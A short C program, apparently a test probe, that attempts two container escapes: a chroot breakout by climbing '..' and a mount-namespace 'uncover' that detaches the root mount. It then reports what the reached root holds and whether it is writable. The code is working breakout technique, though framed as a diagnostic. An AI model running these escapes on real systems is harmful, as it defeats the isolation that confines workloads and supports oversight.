/* Ways out of a container's root, run in a container. `escape chroot` (CAP_SYS_CHROOT, in Docker's default set):
 * chroot into a subdirectory while the working directory stays outside it, climb with `..` far past any root,
 * chroot there. `escape uncover` (CAP_SYS_ADMIN): detach the mount on `/`, then join its own mount namespace again,
 * which sets the root to the namespace's root mount, or to what is mounted on it. Prints the errno of that umount,
 * what the root it reached holds and whether a directory can be made in it:
 *   umount ERRNO  (uncover only; 0: detached)
 *   entries NAME...
 *   mkdir ERRNO   (0: made, and removed again) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "chroot") == 0) {
    if (mkdir("/escape-jail", 0700) < 0 && errno != EEXIST) return perror("mkdir /escape-jail"), 1;
    if (chroot("/escape-jail") < 0) return perror("chroot /escape-jail"), 1;
    for (int i = 0; i < 256; i++)
      if (chdir("..") < 0) return perror("chdir .."), 1;
    if (chroot(".") < 0) return perror("chroot ."), 1;
  } else if (argc == 2 && strcmp(argv[1], "uncover") == 0) {
    int ns = open("/proc/self/ns/mnt", O_RDONLY);
    printf("umount %d\n", umount2("/", MNT_DETACH) == 0 ? 0 : errno);
    if (ns < 0) return perror("open /proc/self/ns/mnt"), 1;
    if (setns(ns, CLONE_NEWNS) < 0) return perror("setns"), 1;
  } else {
    fprintf(stderr, "usage: escape chroot|uncover\n");
    return 2;
  }
  DIR *d = opendir("/");
  if (d == NULL) return perror("opendir /"), 1;
  printf("entries");
  for (struct dirent *e; (e = readdir(d)) != NULL;)
    if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) printf(" %s", e->d_name);
  printf("\n");
  closedir(d);
  int made = mkdir("/escape-probe", 0700);
  printf("mkdir %d\n", made == 0 ? 0 : errno);
  if (made == 0) rmdir("/escape-probe");
  return 0;
}
